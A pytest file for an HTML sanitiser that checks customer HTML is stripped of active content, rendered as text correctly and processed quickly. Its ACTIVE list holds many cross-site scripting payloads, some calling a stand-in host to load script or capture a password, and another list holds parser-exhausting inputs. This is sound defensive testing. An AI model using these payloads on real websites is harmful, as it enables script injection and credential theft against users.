"""HTML that customers wrote: nothing active is left of it, its text is text, and no form of it takes long."""

from __future__ import annotations

import re
import time
from collections.abc import Callable
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from anypsa.markup import DEEPEST, KEPT, LONGEST, as_text, bounded, sanitised

pytestmark = pytest.mark.trust("I5")

ACTIVE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script>alert(1)",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href='javascript:alert(1)'>x</a>",
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href=" \x01javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a title="</a><script>alert(1)</script>" href=x>x</a>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
    '<iframe src="https://evil.example/"></iframe>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<object data="x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example/"><input name=password><button>ok</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example/x.css';</style>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<plaintext><script>alert(1)</script>",
    "<a href=x`onclick=alert(1)>x</a>",
    "<a/href=javascript:alert(1)/onclick=alert(1)>x</a>",
    "<b\x00onclick=alert(1)>x</b>",
]
LONG: dict[str, Callable[[], str]] = {
    "nested": lambda: "<div>" * 50_000,
    "nested and closed": lambda: "<div>" * 50_000 + "</div>" * 50_000,
    "begun": lambda: "<a " * 8_000,
    "begun often": lambda: "<a " * 80_000,
    "attributes": lambda: "<a " + " ".join(f"a{n}=1" for n in range(50_000)) + ">",
    "names": lambda: "<a" + "".join(f" a{n}" for n in range(30_000)) + ">",
    "quotes": lambda: "<a x=\"<a y='" * 20_000,
    "blanks": lambda: "<a" + " " * 200_000,
    "comments": lambda: "<!--" * 60_000,
    "scripts": lambda: "<style></style" * 15_000,
    "closed": lambda: "<b>" * 100 + "</i>" * 60_000,
    "unclosed forms": lambda: "".join(f"<b title={n}>" for n in range(3_000)) + "<p>x" * 3_000,
    "entities": lambda: "&lt;" * 60_000,
    "lines": lambda: "<br>\n" * 50_000,
    "megabytes": lambda: "<p>word</p>" * 500_000,
}


class Seen(HTMLParser):
    """What a reader of the HTML makes of it."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str | None]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += attributes


def harmless(html: str) -> None:
    seen = Seen(html)
    assert seen.tags <= KEPT
    for name, value in seen.attributes:
        assert name in ("href", "rel")
        assert name == "rel" or re.match(r"(https?:|mailto:|[^:]*$|[^:]*[/?#])", value or "")


@pytest.mark.parametrize("html", ACTIVE)
def test_nothing_active_is_left(html: str) -> None:
    harmless(sanitised(f"<p>before</p>{html}<p>after</p>"))
    harmless(sanitised(html))


@settings(deadline=None)
@given(
    st.lists(st.sampled_from([*ACTIVE, "<", ">", '"', "'", "=", "<b", "</", "<!--", "-->", " ", "x", "&lt;", "\x00"]))
)
def test_no_mixture_leaves_anything_active(pieces: list[str]) -> None:
    harmless(sanitised("".join(pieces)))


@pytest.mark.parametrize("form", LONG)
def test_no_form_reaches_the_parser_that_would_take_long(form: str, figures: Callable[..., None]) -> None:
    html = LONG[form]()
    began = time.process_time()
    harmless(sanitised(html))
    as_text(html)
    seconds = time.process_time() - began

    figures(f"HTML made safe and read: {form}", f"{seconds:.2f} s", size=f"{len(html) // 1000} KB")
    deepest = depth = 0
    for tag in re.findall(r"</?[^<]*>", "".join(bounded(html[:LONGEST]))):
        assert re.fullmatch(r'</?[a-z0-9]+( href="[^"]*")?>', tag)
        depth += 0 if tag in ("<br>", "<hr>") else -1 if tag.startswith("</") else 1
        deepest = max(deepest, depth)
    assert 0 <= deepest <= DEEPEST


def test_what_is_cut_says_so() -> None:
    cut = sanitised("x" * (LONGEST + 1))

    assert len(cut) == LONGEST + 1
    assert cut.endswith("…")


def test_what_people_write_is_kept() -> None:
    html = '<p>See <a href="https://acme.example/?a=1&amp;b=2">the <b>page</b></a></p><ul><li>one</li><li>two</li></ul>'

    assert sanitised(html) == html.replace('2">', '2" rel="noopener noreferrer nofollow">')


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("a<br>b", "a\nb"),
        ("<p>one</p><p>two</p>", "one\ntwo"),
        ("before<p>one<p>two", "before\none\ntwo"),
        ("a<br><br><br><br>b", "a\n\nb"),
        ("<ul><li>one<li>two</ul>after", "one\ntwo\nafter"),
        ("<table><tr><td>a</td><td>b</td></tr></table>", "a\nb"),
        ("5 < 6 &amp; 7 &gt; 6", "5 < 6 & 7 > 6"),
        ("&lt;script&gt;alert(1)&lt;/script&gt;", "<script>alert(1)</script>"),
        ("<script>alert(1)</script>hi<style>p{}</style>", "hi"),
        ("  many\n  blanks&nbsp;here ", "many blanks here"),
        ("<pre>one\n  two</pre>", "one\ntwo"),
        ("", ""),
    ],
)
def test_the_text_is_what_it_says(html: str, text: str) -> None:
    assert as_text(html) == text
